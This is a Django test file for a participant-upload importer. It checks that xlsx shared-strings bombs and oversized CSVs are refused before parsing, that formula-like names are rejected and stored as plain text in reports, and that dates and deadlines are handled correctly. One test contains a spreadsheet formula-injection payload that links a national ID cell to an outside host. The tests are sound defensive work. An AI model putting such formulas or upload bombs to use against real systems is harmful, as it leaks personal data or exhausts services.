"""Participant uploads: bombs refused before parsing (web and command line), the request only
stores the file, names that are formulas refused, report cells never formulas, one date policy."""

import csv
import io
import json
from datetime import date, timedelta

import openpyxl
import pytest
from django.core.files.storage import default_storage
from django.core.files.uploadedfile import SimpleUploadedFile
from tests.factories import IMPORT_HEADER, import_row, regional_admin
from tests.registration.test_import_command import run
from tests.spreadsheets import (
    many_lines_csv,
    shared_strings_bomb,
    within_budget,
    xlsx_bytes,
)

from sinergi.core.models import Job
from sinergi.registration import import_rows
from sinergi.registration.models import Participant

pytestmark = pytest.mark.django_db

BOMBS = [
    ("bom.xlsx", lambda: shared_strings_bomb(IMPORT_HEADER), "lebih dari 1.000.000 teks berbeda"),
    ("bom.csv", lambda: many_lines_csv(IMPORT_HEADER, 250_000), "lebih dari 200.000 baris data"),
]


@pytest.fixture
def rows_never_checked(monkeypatch):
    monkeypatch.setattr(import_rows, "check_row", lambda *a: pytest.fail("a row of a bomb was checked"))


@pytest.mark.parametrize(("name", "build", "message"), BOMBS)
def test_command_exits_2_on_a_bomb_before_parsing(
    tmp_path,
    no_xlsx_parsing,
    rows_never_checked,
    name,
    build,
    message,
):
    path = tmp_path / name
    path.write_bytes(build())
    assert path.stat().st_size < 600_000
    with within_budget(peak_mb=40):
        code, out, err = run(path, "--json")
    assert code == 2 and out == ""
    assert message in err


@pytest.mark.parametrize(("name", "build", "message"), BOMBS)
def test_upload_of_a_bomb_is_only_stored_then_refused_by_its_job(
    client,
    django_capture_on_commit_callbacks,
    no_xlsx_parsing,
    rows_never_checked,
    name,
    build,
    message,
):
    client.force_login(regional_admin("16.71"))
    with django_capture_on_commit_callbacks(execute=False) as queued:
        response = client.post("/impor/peserta/", {"file": SimpleUploadedFile(name, build())})
    assert response.status_code == 302  # stored and queued; nothing was read in the request
    job = Job.objects.get()
    assert job.status == Job.Status.QUEUED and default_storage.exists(job.params["path"])
    with within_budget(peak_mb=40):
        for callback in queued:
            callback()
    job.refresh_from_db()
    assert job.status == Job.Status.FAILED and message in job.message
    assert not default_storage.exists(job.params["path"])  # a refused file of NIKs is not kept
    assert message in client.get(response["Location"]).content.decode()


def test_a_name_that_is_a_formula_is_refused_and_the_report_keeps_it_as_text(
    client, django_capture_on_commit_callbacks
):
    formula = '=HYPERLINK("https://contoh.id/?nik="&A3,"Klik")'
    rows = [import_row(1, nama=formula), import_row(2), import_row(3, nama="Budi\x07 Santoso")]
    out = io.StringIO()
    csv.writer(out).writerows([IMPORT_HEADER, *[[r[c] for c in IMPORT_HEADER] for r in rows]])
    client.force_login(regional_admin("16.71"))
    with django_capture_on_commit_callbacks(execute=True):
        response = client.post(
            "/impor/peserta/", {"file": SimpleUploadedFile("a.csv", out.getvalue().encode())}
        )
    job = Job.objects.get()
    errors = {r["row"]: r["errors"] for r in job.result["errors"]}
    assert errors[2] == [{"field": "nama", "message": errors[2][0]["message"]}]
    assert "tidak boleh diawali = + - @" in errors[2][0]["message"]
    assert "karakter kendali" in errors[4][0]["message"]
    report = client.get(f"/impor/peserta/{job.pk}/laporan.xlsx")
    sheet = openpyxl.load_workbook(io.BytesIO(report.content))["laporan"]
    name_cell = sheet.cell(row=2, column=IMPORT_HEADER.index("nama") + 1)
    assert name_cell.value == formula and name_cell.data_type == "s"  # text, not a live formula
    assert not any(cell.data_type == "f" for row in sheet.iter_rows() for cell in row)
    assert response.status_code == 302


def test_birth_dates_follow_the_one_date_policy(tmp_path):
    rows = [import_row(i) for i in range(1, 5)]
    born = [date.fromisoformat(r["tanggal_lahir"]) for r in rows]
    values = [[r[c] for c in IMPORT_HEADER] for r in rows]
    column = IMPORT_HEADER.index("tanggal_lahir")
    values[0][column] = f"{born[0]:%d.%m.%Y}"
    values[1][column] = f"{born[1]:%d/%m/%Y}"
    values[2][column] = (born[2] - date(1899, 12, 30)).days  # an Excel serial in a General cell
    values[3][column] = f"{born[3]:%Y-%m-%d} 00:00:00"
    path = tmp_path / "tanggal.xlsx"
    path.write_bytes(xlsx_bytes([IMPORT_HEADER, *values]))
    code, out, err = run(path, "--json")
    assert code == 0, out + err
    assert json.loads(out)["valid"] == 4
    assert sorted(Participant.objects.values_list("birth_date", flat=True)) == sorted(born)
    assert born[2] - timedelta(days=1) not in Participant.objects.values_list("birth_date", flat=True)


def test_the_deadline_ends_an_import_and_keeps_nothing_half_saved(tmp_path, settings, monkeypatch):
    from sinergi.registration import importing

    out = io.StringIO()
    csv.writer(out).writerows(
        [IMPORT_HEADER, *[[r[c] for c in IMPORT_HEADER] for r in map(import_row, range(1, 301))]]
    )
    path = tmp_path / "besar.csv"
    path.write_text(out.getvalue())
    monkeypatch.setattr(importing, "CHUNK", 100)  # the first chunks are written before time runs out
    settings.TABLE_LIMITS = {**settings.TABLE_LIMITS, "max_seconds": -1}
    code, out_text, err = run(path)
    assert code == 2 and "melebihi batas waktu" in err
    assert not Participant.objects.exists()
